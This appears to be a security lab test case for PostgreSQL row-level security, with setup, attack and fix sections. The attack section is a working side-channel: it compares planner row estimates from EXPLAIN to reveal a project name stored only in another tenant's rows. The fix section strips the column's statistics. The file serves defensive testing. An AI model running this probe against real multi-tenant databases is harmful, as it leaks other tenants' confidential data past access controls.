-- EXPLAIN row estimates use whole-table statistics (leakproof ops): hidden tenants' common values and counts

--- setup
INSERT INTO app.project(tenant_id,name,secret) SELECT 2,'acquisition-of-globex','s' FROM generate_series(1,4000); INSERT INTO app.project(tenant_id,name,secret) SELECT 1,'own'||g,'s' FROM generate_series(1,4000) g; ANALYZE app.project;
CREATE FUNCTION lab.est(q text) RETURNS numeric LANGUAGE plpgsql AS $$ DECLARE j json; BEGIN EXECUTE 'EXPLAIN (FORMAT JSON) '||q INTO j; RETURN (j->0->'Plan'->>'Plan Rows')::numeric; END $$;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.v(lab.est($q$select 1 from app.project where name='acquisition-of-globex'$q$) > 20*lab.est($q$select 1 from app.project where name='no-such-name'$q$),'planner estimate reveals a value that exists only in tenant 2');

--- fix
ALTER TABLE app.project ALTER name SET STATISTICS 0; DELETE FROM pg_statistic WHERE starelid='app.project'::regclass AND staattnum=(SELECT attnum FROM pg_attribute WHERE attrelid='app.project'::regclass AND attname='name');
